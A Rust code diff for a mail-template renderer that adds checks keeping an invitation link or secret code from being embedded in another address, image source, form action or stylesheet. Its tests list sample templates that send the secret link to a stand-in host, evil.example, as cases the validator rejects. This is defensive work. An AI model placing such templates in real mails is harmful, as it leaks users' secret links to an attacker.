@@ -100,12 +100,17 @@ static LANGUAGE: LazyLock<Language> = LazyLock::new(|| {
     language
 });
 
-/// The mail that `template` makes of `values`. `None` where it cannot: then ours is sent, for a mail that somebody waits for
-/// is worth more than its wording.
+/// The mail that `template` makes of `values`. `None` where it cannot, or where its link or code is not where it has to be,
+/// which may hang on a value that no example had: then ours is sent, for a mail that somebody waits for is worth more than
+/// its wording.
 #[must_use]
-pub(super) fn render(template: &Template, values: &Values) -> Option<Mail> {
+pub(super) fn render(template: &Template, kind: MailKind, values: &Values) -> Option<Mail> {
     let (plain, escaped) = (object(values, str::to_owned), object(values, escape));
-    let part = |name, source: &str, values: &Object| part(name, source, values).ok();
+    let part = |name, source: &str, put: &Object| {
+        let rendered = part(name, source, put).ok()?;
+        let misused = secret(kind, values).and_then(|(variable, secret)| misuse(name, variable, secret, &rendered));
+        misused.is_none().then_some(rendered)
+    };
     Some(Mail {
         subject: one_line(&part("subject", &template.subject, &plain)?),
         text: part("text", &template.text, &plain)?,
@@ -194,20 +199,38 @@ fn misuse(part: &str, variable: &str, secret: &str, rendered: &str) -> Option<St
     if !found {
         return Some(format!("it has to hold `{{{{ {variable} }}}}`, whatever else it says"));
     }
-    let free = |before: &str| {
-        before
-            .chars()
-            .next_back()
-            .is_none_or(|c| c.is_whitespace() || "\"'>(:：".contains(c))
-    };
-    let mut rest = rendered;
-    while let Some((before, after)) = rest.split_once(secret) {
-        if !free(before) {
-            return Some(format!("`{variable}` must not be part of another address or word"));
+    let mut places = rendered.match_indices(secret);
+    let stands_alone = places.all(|(at, _)| {
+        let before = rendered.get(..at).unwrap_or_default();
+        if part == "html" {
+            stands_alone_in_html(before)
+        } else {
+            stands_alone(before)
         }
-        rest = after;
+    });
+    (!stands_alone).then(|| format!("`{variable}` must not be part of another address or word"))
+}
+
+/// Whether what follows `before` is a word of its own, and nothing that leads to another address.
+fn stands_alone(before: &str) -> bool {
+    let word = before.rsplit(char::is_whitespace).next().unwrap_or_default();
+    word.chars().next_back().is_none_or(|c| "\"'>(:：".contains(c))
+        && !word.contains(['/', '?', '@', '=', '&', '#', '%'])
+}
+
+/// The same between tags; within a tag it is the whole of a `href`, and no style sheet can fetch it.
+fn stands_alone_in_html(before: &str) -> bool {
+    let lower = before.to_ascii_lowercase();
+    if lower.rfind("<style") > lower.rfind("</style") {
+        return false;
     }
-    None
+    let (tag, text) = (lower.rfind('<'), lower.rfind('>'));
+    if tag <= text {
+        let since = text.and_then(|at| lower.get(at + 1..)).unwrap_or(&lower);
+        return stands_alone(since);
+    }
+    let tag = tag.and_then(|at| lower.get(at..)).unwrap_or_default();
+    tag.starts_with("<a ") && tag.ends_with(" href=\"") && tag.matches('"').count() % 2 == 1 && !tag.contains('\'')
 }
 
 fn object(values: &Values, put: fn(&str) -> String) -> Object {
@@ -222,7 +245,9 @@ fn object(values: &Values, put: fn(&str) -> String) -> Object {
         .collect()
 }
 
-fn escape(text: &str) -> String {
+/// The text with what HTML takes for markup written as references.
+#[must_use]
+pub fn escape(text: &str) -> String {
     let mut escaped = String::with_capacity(text.len());
     for c in text.chars() {
         match c {
@@ -362,7 +387,7 @@ mod tests {
             ("link", Value::Text("https://x.example/i/t".to_owned())),
             ("expires", Value::Absent),
         ]);
-        let mail = render(&template(good), &values).unwrap();
+        let mail = render(&template(good), MailKind::Invitation, &values).unwrap();
         assert_eq!(mail.subject, "Welcome to A & <b>");
         assert_eq!(mail.text, "Hi:\nhttps://x.example/i/t\n");
         assert_eq!(
@@ -407,7 +432,42 @@ mod tests {
     #[test]
     fn a_mail_keeps_its_link_and_gives_it_to_nobody_else() {
         assert!(checked("nothing").unwrap_err()[0].reason.contains("{{ link }}"));
-        assert!(checked("https://evil.example/?to={{ link }}").is_err());
+        for text in [
+            "https://evil.example/?to={{ link }}",
+            "https://evil.example/?to:{{ link }}",
+            "https://evil.example/?'{{ link }}",
+            "https://evil.example/({{ link }}",
+            "https://{{ link }}",
+            "me@{{ link }}",
+        ] {
+            assert!(checked(text).is_err(), "{text}");
+        }
+        let examples = sample::values(MailKind::Invitation, &Wording::default());
+        let html = |html: &str| {
+            let template = Template {
+                html: html.to_owned(),
+                ..template("{{ link }}")
+            };
+            check(&template, MailKind::Invitation, &examples)
+        };
+        for good in [
+            "<p>{{ link }}</p>",
+            "<a class=\"b\" href=\"{{ link }}\">x</a>",
+            "<A HREF=\"{{ link }}\">{{ link }}</A>",
+        ] {
+            assert_eq!(html(good), Ok(()), "{good}");
+        }
+        for bad in [
+            "<a href=\"https://evil.example/?u: {{ link }}\">x</a>",
+            "<a href='https://evil.example/?u=\"{{ link }}'>x</a>",
+            "<img src=\"{{ link }}\">",
+            "<form action=\"{{ link }}\">",
+            "<img alt=\"x\" src=\"https://evil.example/? href=\"{{ link }}\">",
+            "<style>p { background: url(\"https://evil.example/? {{ link }}\") }</style>",
+            "<p>https://evil.example/?{{ link }}</p>",
+        ] {
+            assert!(html(bad).is_err(), "{bad}");
+        }
         assert!(
             checked("{% if inviter %}{{ link }}{% endif %}").is_err(),
             "not in every case"
